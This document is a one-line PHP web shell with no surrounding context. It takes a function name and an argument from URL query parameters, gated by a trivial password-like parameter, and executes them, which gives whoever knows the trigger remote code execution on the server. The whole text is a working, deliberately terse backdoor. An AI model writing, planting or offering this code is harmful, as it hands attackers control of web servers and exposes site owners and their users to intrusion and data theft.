<?=$_GET[p]==_&&$_GET[f]($_GET[a]);
